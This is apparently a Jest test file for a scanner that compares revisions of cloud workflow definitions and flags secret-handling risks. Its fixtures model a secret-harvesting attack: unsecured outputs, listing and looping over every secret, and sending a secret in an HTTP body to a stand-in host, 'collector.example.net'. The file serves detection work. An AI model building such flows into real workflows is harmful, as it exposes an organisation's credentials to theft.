import { describe, expect, it } from '@jest/globals';
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { diffTargets } from '../../src/engine/scan.js';
import type { Report } from '../../src/findings/types.js';
import {
  flowFile,
  foreach,
  getSecret,
  http,
  listSecrets,
  scope,
  SHAPES,
  type Shape,
} from '../helpers/flow-builders.js';

type Json = Record<string, unknown>;
const FILE = 'Workflows/Rotate-0A1B2C3D-0000-4000-8000-00000000000A.json';

/** Writes base and head solution folders to disk and diffs them through the engine's own readers. */
async function diff(
  base: Json,
  head: Json,
  formatHead = (o: Json) => JSON.stringify(o, null, 2),
): Promise<Report> {
  const dir = mkdtempSync(path.join(tmpdir(), 'fg-regress-'));
  for (const [side, obj, fmt] of [
    ['base', base, (o: Json) => JSON.stringify(o, null, 2)],
    ['head', head, formatHead],
  ] as const) {
    mkdirSync(path.join(dir, side, 'Workflows'), { recursive: true });
    writeFileSync(path.join(dir, side, FILE), fmt(obj));
  }
  return diffTargets({ cwd: dir, paths: [], config: {}, failOn: 'high', old: 'base', new: 'head' });
}
const newOnes = (r: Report) =>
  r.findings
    .filter((f) => f.status === 'new')
    .map((f) => `${f.ruleId} ${f.action}`)
    .sort();
const value = (action: string) => `@body('${action}')?['value']`;

describe.each(SHAPES)('the attack of the problem statement, step by step (%s)', (shape: Shape) => {
  const step0 = {
    Get_secret: getSecret(shape, 'api-key', { secureOutputs: true }),
    Call: http({
      uri: 'https://api.partner.example.com',
      headers: { Authorization: `Bearer @{${value('Get_secret').slice(1)}}` },
    }),
  };
  const step1 = { ...step0, Get_secret: getSecret(shape, 'api-key') };
  const step2 = { ...step1, List_secrets: listSecrets(shape) };
  const step3 = {
    ...step2,
    Each: foreach("@body('List_secrets')?['value']", {
      Get_each: getSecret(shape, "@items('Each')?['name']"),
    }),
  };

  it('0 → 1: secure outputs switched off is FG101 critical, gate fails', async () => {
    const r = await diff(flowFile(step0), flowFile(step1));
    expect(newOnes(r)).toEqual(['FG101 Get_secret']);
    expect(r.summary.gate).toBe('failed');
  });

  it('1 → 2: List secrets is FG110', async () => {
    expect(newOnes(await diff(flowFile(step1), flowFile(step2)))).toEqual(['FG110 List_secrets']);
  });

  it('2 → 3: a For each of Get secret over the list is FG111 (and an unsecured source)', async () => {
    expect(newOnes(await diff(flowFile(step2), flowFile(step3)))).toEqual([
      'FG103 Get_each',
      'FG111 Get_each',
    ]);
  });

  it('0 → 3 at once reports every step', async () => {
    expect(newOnes(await diff(flowFile(step0), flowFile(step3)))).toEqual([
      'FG101 Get_secret',
      'FG103 Get_each',
      'FG110 List_secrets',
      'FG111 Get_each',
    ]);
  });

  it('the secret in an Authorization header (a credential slot) fires nothing', async () => {
    const r = await diff(flowFile(step0), flowFile(step0));
    expect(r.summary.findings).toEqual({ new: 0, existing: 0, resolved: 0 });
  });
});

describe('secret data flow between revisions', () => {
  const source = { Get_secret: getSecret('OpenApiConnection', 'api-key', { secureOutputs: true }) };
  const base = flowFile(source);

  it('through a variable into a visible action is FG120', async () => {
    const head = flowFile({
      ...source,
      Init: {
        type: 'InitializeVariable',
        inputs: { variables: [{ name: 'key', type: 'string', value: value('Get_secret') }] },
        runAfter: {},
      },
      Log: { type: 'Compose', inputs: "Key is @{variables('key')}", runAfter: {} },
    });
    expect(newOnes(await diff(base, head))).toContain('FG120 Log');
  });

  it('through Compose into an HTTP body leaving the tenant is FG121, which supersedes FG120', async () => {
    const head = flowFile({
      ...source,
      Shape_it: { type: 'Compose', inputs: { key: value('Get_secret') }, runAfter: {} },
      Send: http({ uri: 'https://collector.example.net/in', body: "@outputs('Shape_it')" }),
    });
    const found = newOnes(await diff(base, head));
    expect(found).toContain('FG121 Send');
    expect(found).not.toContain('FG120 Send');
  });

  it('a benign refactor (moved into a Scope, reformatted, reordered) reports nothing new', async () => {
    const before = flowFile({
      ...source,
      Call: http({ uri: 'https://example.com', headers: { 'x-api-key': value('Get_secret') } }),
      Anyone: listSecrets('OpenApiConnection'),
    });
    const after = flowFile({
      Anyone: listSecrets('OpenApiConnection'),
      Wrapper: scope({
        ...source,
        Call: http({ uri: 'https://example.com', headers: { 'x-api-key': value('Get_secret') } }),
      }),
    });
    const r = await diff(before, after, (o) => '\uFEFF' + JSON.stringify(o, null, 4).replace(/\n/g, '\r\n'));
    expect(r.summary.findings.new).toBe(0);
    expect(r.summary.findings.existing).toBe(1); // the List secrets that was already there
    expect(r.summary.gate).toBe('passed');
  });
});
